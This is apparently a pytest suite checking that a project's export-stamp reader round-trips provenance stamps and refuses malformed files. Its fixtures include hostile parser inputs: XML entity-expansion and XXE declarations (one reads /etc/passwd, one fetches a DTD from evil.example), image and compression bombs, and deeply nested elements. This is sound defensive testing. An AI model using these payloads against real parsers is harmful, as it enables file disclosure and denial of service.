import io
import json
import struct
import tracemalloc
import zipfile
import zlib
from dataclasses import replace

import pandas as pd
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from atlas.drawing.exhibit import Exhibit
from atlas.errors import DataError
from atlas.exports import stamp_reader
from atlas.exports.figure_files import figure_csv
from atlas.exports.stamp_reader import KINDS, exported_stamp
from atlas.exports.tables.spatial import incidents_geojson
from atlas.exports.tables.workbook import incidents_xlsx


def png(fields: dict[str, str]) -> bytes:
    held, info = io.BytesIO(), PngInfo()
    for key, value in fields.items():
        info.add_itxt(key, value) if not value.isascii() else info.add_text(key, value)
    Image.new("RGB", (4, 4)).save(held, "PNG", pnginfo=info)
    return held.getvalue()


def svg(text: str, head: str = "") -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{head}<svg xmlns="http://www.w3.org/2000/svg"><title>A map</title>'
        f"<metadata>{escaped}</metadata><text>{{}}</text></svg>"
    ).encode()


def pdf(metadata: dict[str, str], password: str = "") -> bytes:
    held, writer = io.BytesIO(), pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_metadata(metadata)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    writer.write(held)
    return held.getvalue()


def packed(parts: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return held.getvalue()


def huge_png() -> bytes:
    """A picture of 60,000 times 60,000 pixels in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def made(early, early_stamp) -> dict[str, bytes]:
    """One file of every kind as the atlas and its libraries write them."""
    figure = Exhibit("own", "A figure", {}, "Says it.", lambda: pd.DataFrame({"n": [1]}), list)
    return {
        "png": png(early_stamp.as_fields()),
        "svg": svg(json.dumps(early_stamp.as_fields(), ensure_ascii=False, sort_keys=True)),
        "pdf": pdf({"/Title": "A map", "/Keywords": early_stamp.as_text()}),
        "xlsx": incidents_xlsx(early, early_stamp),
        "pptx": incidents_xlsx(early, early_stamp),
        "docx": incidents_xlsx(early, early_stamp),
        "geojson": incidents_geojson(early, early_stamp),
        "csv": figure_csv(figure, early_stamp),
    }


@pytest.mark.parametrize("kind", KINDS)
def test_the_stamp_comes_back_from_every_kind(made, kind, early_stamp):
    assert exported_stamp(f"figure.{kind}", made[kind]) == early_stamp
    assert exported_stamp(f"C:\\tables\\FIGURE.{kind.upper()}", made[kind]) == early_stamp


def test_text_beyond_ascii_comes_back_from_a_picture(early_stamp):
    other = replace(early_stamp, title="Città — “Kābul” <b>&amp;", link="/map?province=Kābul")
    assert exported_stamp("a.png", png(other.as_fields())) == other
    assert exported_stamp("a.svg", svg(other.as_text())) == other


def unread(name: str, data: bytes) -> str:
    """Give the sentence with which a file is refused; empty when its stamp can be read."""
    try:
        exported_stamp(name, data)
    except DataError as error:
        return error.message
    return ""


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(DataError) as refused:
        exported_stamp(name, data)
    assert refused.value.hint
    assert len(str(refused.value)) < 500
    return refused.value.message


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("data", [b"", b"garbage", bytes(range(256)) * 20], ids=["empty", "words", "bytes"])
def test_garbage_is_told_by_the_name_of_the_file(kind, data):
    assert refusal(f"own.{kind}", data).startswith(f"own.{kind}: ")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("share", [0.2, 0.5, 0.9])
def test_a_cut_file_gives_its_stamp_or_a_sentence(made, kind, share, early_stamp):
    data = made[kind][: int(len(made[kind]) * share)]
    if told := unread(f"own.{kind}", data):
        assert told.startswith(f"own.{kind}: ")
    else:
        assert exported_stamp(f"own.{kind}", data) == early_stamp


@settings(max_examples=60)
@given(kind=st.sampled_from(list(KINDS)), tail=st.binary(max_size=300))
def test_any_bytes_behind_the_right_beginning_give_a_sentence(kind, tail):
    begins = KINDS[kind].begins
    assert refusal(f"own.{kind}", (begins[0] if begins else b"") + tail)


@pytest.mark.parametrize(
    ("name", "data", "told"),
    [
        ("own.gif", b"GIF89a", "carries no stamp that the atlas reads"),
        ("no ending", b"x", "carries no stamp that the atlas reads"),
        ("own.png", b"%PDF-1.7", "is no PNG picture, whatever its name says"),
        ("own.png", huge_png(), "60,000 times 60,000 pixels"),
        ("own.png", png({}), "the file carries no stamp"),
        ("own.pdf", pdf({"/Title": "Another"}), "carries no stamp"),
        ("own.pdf", pdf({"/Title": "A"}, password="secret"), "protected by a password"),
        ("own.xlsx", stamp_reader.OLE + b"x" * 600, "protected by a password"),
        ("own.xlsx", packed({"a.txt": b"x"}), "carries no stamp"),
        ("own.xlsx", packed({"docProps/core.xml": b"<a>" + b" " * 2_000_000 + b"</a>"}), "longer than any"),
        ("own.svg", svg("{}"), "carries no stamp"),
        ("own.svg", svg("no stamp")[:-5], "not well-formed"),
        ("own.geojson", b'{"type":"FeatureCollection","features":[]}', "carries no stamp"),
        ("own.geojson", b'{"khorasan_atlas":' + b"[" * 90_000, "damaged"),
        ("own.csv", b"a,b\n1,2\n", "the file carries no stamp"),
        (f"{'x' * 300}.png", b"", "…"),
    ],
)
def test_files_that_are_none_of_ours_are_told_apart(name, data, told):
    assert told in refusal(name, data)


@pytest.mark.parametrize(
    "declared",
    ['<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', '<!ENTITY a SYSTEM "file:///etc/passwd">',
     '<!ENTITY % a SYSTEM "http://evil.example/x.dtd">'],
)  # fmt: skip
def test_declared_entities_are_refused(early_stamp, declared):
    data = svg(early_stamp.as_text(), head=f"<!DOCTYPE svg [{declared}]>")
    assert "declares XML entities" in refusal("own.svg", data)


def test_the_usual_document_type_of_a_picture_is_not_followed(early_stamp):
    head = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert exported_stamp("own.svg", svg(early_stamp.as_text(), head)) == early_stamp


def test_a_file_above_the_limit_is_not_looked_into(monkeypatch, made):
    monkeypatch.setattr(stamp_reader, "MOST_BYTES", 100)
    assert "megabytes" in refusal("own.png", made["png"])


def test_compressed_text_that_grows_without_end_is_refused():
    info = PngInfo()
    info.add_text("KhorasanAtlas", "1" * 20_000_000, zip=True)
    held = io.BytesIO()
    Image.new("RGB", (1, 1)).save(held, "PNG", pnginfo=info)
    assert refusal("own.png", held.getvalue()).startswith("own.png: ")


@pytest.mark.parametrize("body", [b"<g>" * 5_000_000, b"<g/>" * 3_000_000], ids=["deep", "many"])
def test_a_picture_of_endless_elements_is_refused_early(body):
    tracemalloc.start()
    try:
        assert "more elements than any" in refusal("own.svg", b"<svg>" + body)
        assert tracemalloc.get_traced_memory()[1] < 250_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "rest", [b"1 0 obj " * 1_000_000, b"x" * 9_000_000 + b"startxref\n7\n%%EOF"], ids=["no table", "table nowhere"]
)
def test_a_pdf_of_rubbish_is_not_searched(rest, monkeypatch):
    monkeypatch.setattr(stamp_reader, "PdfReader", None)
    assert "no table of its parts" in refusal("own.pdf", b"%PDF-1.7 " + rest)
